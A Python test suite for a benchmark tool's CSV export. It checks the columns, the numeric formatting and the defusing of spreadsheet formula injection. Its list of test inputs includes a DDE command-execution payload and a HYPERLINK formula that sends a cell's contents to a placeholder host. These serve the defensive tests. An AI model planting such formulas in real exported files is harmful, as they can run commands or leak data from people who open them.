"""results.csv and parity.csv, read back with the csv module as a spreadsheet or a data frame would."""

from __future__ import annotations

import csv
import io
import math
from dataclasses import replace

import pytest

from bench.report import csv_files
from bench.results import ClaimJudged, Interval, Results
from tests.bench import made
from tests.bench.fakes import cell
from tests.bench.test_report import ACTING

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "''+1", "\N{FULLWIDTH EQUALS SIGN}1",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")', "\xa0=1",
)  # fmt: skip
HARMLESS = ("a=b", "\N{REPLACEMENT CHARACTER}=1", "resnet18", "'", "it's -1", "", "1-2", "x@y", "\N{GREEK CAPITAL LETTER OMEGA}")


def read(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text), strict=True))
    assert all(None not in row and None not in row.values() for row in rows), "a row has as many values as there are columns"
    return rows


def cells(results: Results) -> list[dict[str, str]]:
    return read(csv_files.results_csv(results))


def test_a_row_for_each_measured_cell_with_its_numbers():
    run = made.results()
    rows = cells(run)
    assert len(rows) == len(run.cells)
    base, rust, eager, throughput, _, load = rows
    assert {name: rust[name] for name in (*csv_files.PLACE, "scenario", "batch", "kind")} == {
        "run": "20261121-101500-00ff", "dataset": "wings", "backbone": "resnet18", "weights": "random", "variant": "raw-dynamic",
        "runtime": "ort-rust", "provider": "cpu", "scenario": "latency", "batch": "1", "kind": "latency",
    }  # fmt: skip
    assert (rust["threads"], rust["spinning"], rust["runtime_version"]) == ("2", "", "1.31.1")
    assert [float(rust[f"median_ns{end}"]) for end in ("", "_low", "_high")] == [3_900_000, 3_900_000 * 0.99, 3_900_000 * 1.01]
    assert (rust["samples"], rust["p90_ns"], rust["p95_ns"], rust["p99_ns"]) == ("160", "4000000.0", "4100000.0", "")
    assert [rust[f"runtime_ratio{end}"] for end in ("", "_low", "_high")] == ["0.975", "0.971", "0.979"]
    assert (rust["runtime_base_runtime"], rust["runtime_verdict"], rust["runtime_mde"]) == ("ort-python", "faster", "0.012")
    assert (rust["release_base_variant"], rust["release_ratio"], rust["release_verdict"]) == ("raw-dynamic old", "1.101", "slower")
    assert (rust["variant_ratio"], rust["variant_verdict"], rust["error"]) == ("", "", "")
    assert (base["runtime_ratio"], base["release_same_graph"]) == ("", "true")
    assert eager["error"] == "torch-eager: time: died (exit code 3)"
    assert (eager["median_ns"], eager["runtime_not_comparable"], eager["runtime_same_graph"]) == ("", "threads", "false")
    assert float(throughput["images_per_second"]) == 8e9 / 31_000_000
    assert (load["median_ns"], load["middle_ns"], load["samples"]) == ("", "1200000000.0", "3")


def test_a_row_for_each_row_of_parity():
    run = made.results()
    claim = ClaimJudged("disagreement < 1 % at 95 %", 0.009936, 299, supported=True)
    run = replace(run, parity=(replace(run.parity[0], claim=claim), *run.parity[1:]))
    first, rust, failed, lost = read(csv_files.parity_csv(run))
    assert (first["verdict"], first["images"], first["claim"], first["claim_supported"]) == ("pass", "300", claim.claim, "true")
    assert (first["accuracy"], first["correct"]) == (repr(290 / 300), "290")
    assert (first["lost"], first["drop"], first["drop_bound"]) == ("0", "0.0", "0.009936")
    assert (first["bits_equal"], rust["bits_equal_to"], rust["bits_equal"]) == ("", "ort-python", "300")
    assert first["largest_move_over_batches"] == "1e-06"
    assert (failed["verdict"], failed["passed"], failed["flips"], failed["checks"]) == ("FAIL", "false", "2", "labels")
    assert failed["problems"] == "2 of 300 images get another label"
    assert failed["reproduce"].startswith("nox -s parity -- --variant sim-static")
    assert failed["blame"].startswith("resize is to blame")
    assert (lost["verdict"], lost["judged"], lost["accuracy"], lost["drop"], lost["claim"]) == ("nothing judged", "false", "", "", "")


def test_every_column_is_filled_somewhere_and_no_row_has_another():
    """A misspelt key would leave a column empty, or be refused by the writer."""
    run = made.results()
    full = dict.fromkeys(csv_files.OPTIONS, 1)
    every = replace(run.contrasts[0], not_comparable="threads")
    contrasts = tuple(replace(every, factor=factor) for factor in csv_files.FACTORS)
    measured = replace(run.cells[3], cell=every.cell, options=full, percentiles_ns={"90": 1.0, "95": 1.0, "99": 1.0}, error="x")
    (row,) = cells(replace(run, cells=(measured,), contrasts=contrasts))
    assert [name for name, value in row.items() if not value] == []
    judged = replace(run.parity[2], claim=ClaimJudged("disagreement < 1 %", 0.02, 299, supported=False), bits_equal_to={"ort-python": 3})
    (row,) = read(csv_files.parity_csv(replace(run, parity=(judged,))))
    assert [name for name, value in row.items() if not value] == []


def test_nothing_is_a_header_alone():
    nothing = replace(made.results(), cells=(), parity=())
    assert cells(nothing) == []
    assert csv_files.results_csv(nothing) == ",".join(csv_files.CELL_COLUMNS) + "\n"
    assert csv_files.parity_csv(nothing) == ",".join(csv_files.PARITY_COLUMNS) + "\n"


def test_numbers_are_whole_or_in_full_precision_and_never_nan():
    third = 1e9 / 3
    odd = replace(made.results().cells[0], median_ns=Interval(third, -third, math.nan), middle_ns=math.inf)
    (row,) = cells(replace(made.results(), cells=(odd,)))
    assert (float(row["median_ns"]), float(row["median_ns_low"])) == (third, -third)
    assert (row["median_ns_low"], row["median_ns_high"], row["middle_ns"]) == (repr(-third), "", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_is_a_formula_is_none(text):
    said = csv_files.harmless(text)
    assert said == "'" + csv_files.printable(text).replace("\n", " ")
    assert not said.startswith(("=", "+", "-", "@", "\t", "\r", "\n", " ", "\N{FULLWIDTH EQUALS SIGN}", "\xa0"))


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_as_it_was(text):
    assert csv_files.harmless(text) == text


@pytest.mark.parametrize("text", [text for text in (*FORMULAS, *HARMLESS) if text.isprintable()])
def test_the_rule_can_be_undone(text):
    said = csv_files.harmless(text)
    assert (said[1:] if said.startswith("'") and csv_files.FORMULA.match(said[1:]) else said) == text


def test_hostile_names_are_one_row_each_and_none_acts():
    names = (*FORMULAS, *made.HOSTILE, 'a","b', "a;b", "'\"\"'")
    run = made.hostile()
    hostile = replace(
        run,
        run="=1+1",
        parity=tuple(made.row(name, "ort-rust", dataset=name, backbone=name, problems=(name,), reproduce=name) for name in names),
        cells=tuple(replace(made.results().cells[0], cell=cell(name, backbone=name, dataset=name), error=name) for name in names),
    )
    for text, columns in (
        (csv_files.results_csv(hostile), ("dataset", "error")),
        (csv_files.parity_csv(hostile), ("dataset", "problems", "reproduce")),
    ):
        rows = read(text)
        assert len(text.splitlines()) == text.count("\n") == 1 + len(names) == 1 + len(rows), "one row is one line"
        assert {row["run"] for row in rows} == {"'=1+1"}
        for column in columns:
            assert [row[column] for row in rows] == [csv_files.harmless(name) for name in names]
        assert not any(value.startswith(("=", "@", "\t")) for row in rows for value in row.values())
        assert not ACTING.search(text)
